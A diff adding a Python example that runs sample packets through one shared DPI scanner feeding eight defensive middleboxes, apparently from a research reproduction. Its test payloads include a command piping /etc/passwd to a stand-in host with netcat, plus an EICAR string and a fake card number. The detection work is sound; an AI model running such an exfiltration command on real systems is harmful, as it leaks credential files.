@@ -1,0 +1,123 @@
+#!/usr/bin/env python
+"""The middlebox zoo — every DPI consumer from the paper's Table 1.
+
+One DPI service instance serves, simultaneously: an IDS, an IPS, an
+antivirus, an L7 firewall, a DLP system, a traffic shaper, an L7 load
+balancer and a protocol-analytics box.  Each packet is scanned once; every
+middlebox receives only its own matches and applies its own logic.
+
+Run:  python examples/middlebox_zoo.py
+"""
+
+from repro.core import DPIController
+from repro.core.reports import MatchReport
+from repro.middleboxes import (
+    AntiVirus,
+    IntrusionDetectionSystem,
+    IntrusionPreventionSystem,
+    L7Firewall,
+    L7LoadBalancer,
+    LeakagePreventionSystem,
+    ProtocolAnalytics,
+    TrafficShaper,
+)
+from repro.net.addresses import IPv4Address, MACAddress
+from repro.net.packet import make_tcp_packet
+from repro.net.steering import PolicyChain
+
+CHAIN = 100
+
+# ----------------------------------------------------------------------
+# 1. Build the zoo.
+# ----------------------------------------------------------------------
+ids = IntrusionDetectionSystem(1)
+ids.add_signature(0, b"GET /cgi-bin/exploit", severity="high")
+
+ips = IntrusionPreventionSystem(2)
+ips.add_block_signature(0, b"exec-shellcode-sequence")
+
+antivirus = AntiVirus(3)
+antivirus.add_signature(0, b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR")
+
+firewall = L7Firewall(4)
+firewall.add_block_pattern(0, b"/etc/passwd")
+
+dlp = LeakagePreventionSystem(5, prevent=False)
+dlp.add_marker(0, b"COMPANY CONFIDENTIAL")
+dlp.add_identifier_format(1, rb"\d{4}-\d{4}-\d{4}-\d{4}")
+
+shaper = TrafficShaper(6)
+shaper.add_class("bulk", rate_bps=1_000_000)
+shaper.add_app_pattern(0, b"BitTorrent protocol", "bulk")
+
+balancer = L7LoadBalancer(7)
+balancer.add_pool("api", ["api-1", "api-2", "api-3"])
+balancer.add_content_rule(0, b"GET /api/", "api")
+
+analytics = ProtocolAnalytics(8)
+analytics.add_protocol_banner(0, b"SSH-2.0", "ssh")
+analytics.add_protocol_banner(1, b"HTTP/1.1", "http")
+
+zoo = [ids, ips, antivirus, firewall, dlp, shaper, balancer, analytics]
+
+# ----------------------------------------------------------------------
+# 2. Register everyone; one chain through the whole zoo.
+# ----------------------------------------------------------------------
+controller = DPIController()
+for middlebox in zoo:
+    middlebox.register_with(controller)
+controller.policy_chains_changed(
+    {"zoo": PolicyChain("zoo", tuple(m.name for m in zoo), chain_id=CHAIN)}
+)
+instance = controller.create_instance("dpi-1")
+print(
+    f"{len(zoo)} middleboxes, {len(controller.registry)} distinct patterns, "
+    f"one automaton with {instance.automaton.num_states} states"
+)
+
+# ----------------------------------------------------------------------
+# 3. Traffic.
+# ----------------------------------------------------------------------
+SAMPLES = [
+    b"GET /api/users HTTP/1.1\r\nHost: shop.example\r\n\r\n",
+    b"GET /cgi-bin/exploit?id=1 HTTP/1.1\r\n\r\n",
+    b"cat /etc/passwd | nc evil.example 9999",
+    b"report: COMPANY CONFIDENTIAL card 1234-5678-9012-3456",
+    b"\x13BitTorrent protocol ex.chunk",
+    b"SSH-2.0-OpenSSH_9.0 handshake",
+    b"shell: exec-shellcode-sequence \x90\x90\x90",
+    b"mail attachment: X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR test file",
+    b"plain boring text that matches nothing at all",
+]
+
+src = MACAddress.from_index(0)
+dst = MACAddress.from_index(1)
+for index, payload in enumerate(SAMPLES):
+    packet = make_tcp_packet(
+        src, dst, IPv4Address("10.0.0.1"), IPv4Address("10.0.0.2"),
+        50000 + index, 80, payload=payload,
+    )
+    output = instance.inspect(payload, CHAIN, flow_key=f"flow-{index}")
+    report = MatchReport.decode(output.report.encode())
+    print(f"\npacket {index}: {payload[:40]!r}...")
+    if report.is_empty:
+        print("  scan: no matches")
+    for middlebox in zoo:
+        verdict = middlebox.consume_report(packet, report)
+        mine = report.matches_for(middlebox.middlebox_id)
+        if mine:
+            print(f"  {middlebox.name}: {len(mine)} match(es) -> {verdict.value}")
+
+# ----------------------------------------------------------------------
+# 4. Summary per middlebox.
+# ----------------------------------------------------------------------
+print("\n--- summary ---")
+print(f"IDS alerts: {len(ids.alerts)}")
+print(f"IPS blocked packets: {len(ips.blocked_packet_ids)}")
+print(f"AV quarantined flows: {len(antivirus.quarantined_flows)}")
+print(f"L7 firewall drops: {firewall.stats.packets_dropped}")
+print(f"DLP incidents: {len(dlp.incidents)}")
+print(f"shaper classified flows: {dict(shaper.flow_classes)}")
+print(f"load-balancer assignments: {balancer.backend_loads()}")
+print(f"protocol share: { {k: round(v, 2) for k, v in analytics.protocol_share().items()} }")
+print(f"\nDPI instance: {instance.telemetry.packets_scanned} packets scanned once each")
